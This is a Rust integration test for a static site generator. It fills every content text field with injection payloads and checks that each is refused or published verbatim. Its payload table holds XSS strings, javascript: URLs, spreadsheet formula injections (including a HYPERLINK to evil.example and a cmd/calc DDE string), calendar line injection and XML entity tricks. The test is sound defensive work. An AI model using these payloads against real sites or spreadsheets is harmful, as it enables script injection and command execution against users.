//! Every free text of every content file holds every payload: it is refused at its line, or published as the
//! text that it is.
//!
//! The fields come from the schema table, so that a new one is tried by itself. For each payload there is a site
//! in which every text that is not refused holds it; its pages, feeds, calendars and data are compared with those
//! of the same site with harmless words by `tests/judges/payloads.py`: the same elements, attributes, properties
//! and rows, and each text as it was written.

#![expect(
    clippy::disallowed_methods,
    clippy::disallowed_macros,
    clippy::unwrap_used,
    reason = "tests touch the world"
)]

#[path = "payloads/site.rs"]
mod site;

use serde_json::json;
use site::{Filled, Texts};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;
use tempfile::TempDir;
use zhangbang::build::{self, Outcome, Silent};
use zhangbang::diagnostic::Diagnostic;
use zhangbang::model::moment::Clock;

/// What is tried; `{}` is the field's own mark.
const PAYLOADS: &[(&str, &str)] = &[
    ("element", "<script>alert(\"{}\")</script>"),
    ("element-event", "<img src=x onerror=alert(1)>{}"),
    ("element-closing", "{}</title></style></textarea><svg onload=alert(1)>"),
    ("attribute", "{}\" onmouseover=\"alert(1)\" x=\""),
    ("attribute-single", "{}' onfocus='alert(1)' autofocus '"),
    ("json-ld", "{}</script><script>alert(1)</script>"),
    ("json", "{}\",\"x\":\"\\"),
    ("comment", "<!-- {} --><!--"),
    ("xml", "{}]]><evil xmlns=\"urn:x\"/><!ENTITY x>&x;"),
    ("entity", "&lt;{}&gt;&#60;b&#62;&amp;"),
    ("formula", "=HYPERLINK(\"https://evil.example/{}\",\"x\")"),
    ("formula-plus", "+{}+cmd|' /C calc'!A0"),
    ("formula-minus", "-{}-1"),
    ("formula-at", "@SUM({})"),
    ("formula-wide", "＝{}＋1"),
    ("formula-tab", "\t={}"),
    ("calendar", "{};X=1,Y:2\\nATTENDEE:mailto:x@y.example"),
    ("calendar-line", "{}\r\nATTENDEE:mailto:x@y.example"),
    ("line", "{}\n\nEND:VEVENT"),
    ("line-unicode", "{}\u{2028}x"),
    ("bidi", "{}\u{202E}txt.exe"),
    ("zero-width", "{}\u{200B}x"),
    ("nul", "{}\0x"),
    ("escape", "{}\u{1B}[31mx"),
    ("noncharacter", "{}\u{FFFF}x"),
    ("template", "{{ {} }}{% include \"x.html\" %}{# x #}"),
    ("script-url", "javascript:alert({})"),
    ("data-url", "data:text/html,<b>{}</b>"),
    ("markdown", "[{}](javascript:alert(1)) **x** `y`"),
];

fn clock() -> Clock {
    Clock { instant: "2026-11-10T04:00:00Z".parse().unwrap(), given: None }
}

/// What was made of one payload.
struct Made {
    name: &'static str,
    out: TempDir,
    texts: Texts,
}

#[test]
fn every_field_holds_every_payload_and_nothing_is_injected() {
    let harmless = Texts::of(None);
    println!("{} texts of {} fields", harmless.fields().len(), harmless.names().len());
    let (benign, none) = publish(harmless);
    assert!(none.is_empty(), "harmless words are refused: {none:#?}");
    let mut made = Vec::new();
    let (mut published, mut refused) = (0, 0);
    for &(name, payload) in PAYLOADS {
        let (one, told) = publish(Texts::of(Some(payload)));
        refused += told.len();
        published += one.fields().len() - told.len();
        println!("{name}: {} published, {} refused", one.fields().len() - told.len(), told.len());
        made.push(Made { name, out: built(&one), texts: one });
    }
    println!("{} payloads: {published} published, {refused} refused with a line", PAYLOADS.len());
    let out = built(&benign);
    judge(&out, &benign, &made);
}

/// The texts without those that are refused; and which are. Whatever is refused is told at its line.
fn publish(mut texts: Texts) -> (Texts, BTreeSet<usize>) {
    let mut refused = BTreeSet::new();
    for _ in 0..12 {
        let filled = texts.fill();
        let faults = errors(&filled);
        if faults.is_empty() {
            return (texts, refused);
        }
        let (mut told, mut other) = (BTreeSet::new(), Vec::new());
        for (path, line, words) in faults {
            match filled.field_at(&path, line) {
                Some(field) if texts.is_tried(field) => drop(told.insert(field)),
                _ => other.push(format!("{path}:{line}: {words}")),
            }
        }
        // one that is refused may leave others without what they refer to
        assert!(!told.is_empty(), "nothing that was tried is named: {other:#?}");
        told.iter().for_each(|&field| texts.give_up(field));
        refused.extend(told);
    }
    panic!("there is no end of faults");
}

/// File, line and words of every error.
fn errors(filled: &Filled) -> Vec<(String, usize, String)> {
    let site = build::load(filled.root(), &clock()).unwrap();
    let place = |fault: &Diagnostic| {
        let source = &site.texts()[fault.file.0 as usize];
        let line = source.position(fault.span.start as usize).line;
        (source.path.clone(), line as usize, format!("{}: {}", fault.code.name(), fault.message.en))
    };
    site.check().iter().filter(|fault| fault.is_error()).map(place).collect()
}

fn built(texts: &Texts) -> TempDir {
    let (filled, out) = (texts.fill(), tempfile::tempdir().unwrap());
    let mut site = build::load(filled.root(), &clock()).unwrap();
    match build::build(&mut site, filled.root(), out.path(), &Silent).unwrap() {
        Outcome::Built { .. } => out,
        Outcome::Faulty(faults) => panic!("{faults:#?}"),
    }
}

fn judge(benign: &TempDir, harmless: &Texts, made: &[Made]) {
    let judges = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/judges");
    let python = judges.join("venv/bin/python");
    if !python.exists() {
        assert!(std::env::var_os("ZHANGBANG_JUDGES").is_none(), "the judges' Python is needed");
        println!("skipped: no tests/judges/venv; tests/all.sh makes it");
        return;
    }
    let sites: Vec<_> = made
        .iter()
        .map(|made| json!({ "name": made.name, "folder": made.out.path(), "texts": made.texts.values() }))
        .collect();
    let told = json!({ "benign": benign.path(), "texts": harmless.values(), "sites": sites });
    let list = benign.path().join("..").join(format!("payloads-{}.json", std::process::id()));
    std::fs::write(&list, told.to_string()).unwrap();
    let judged = Command::new(python).arg(judges.join("payloads.py")).arg(&list).output().unwrap();
    std::fs::remove_file(&list).unwrap();
    let words =
        String::from_utf8_lossy(&judged.stdout).into_owned() + &String::from_utf8_lossy(&judged.stderr);
    assert!(judged.status.success(), "{words}");
    println!("{words}");
}
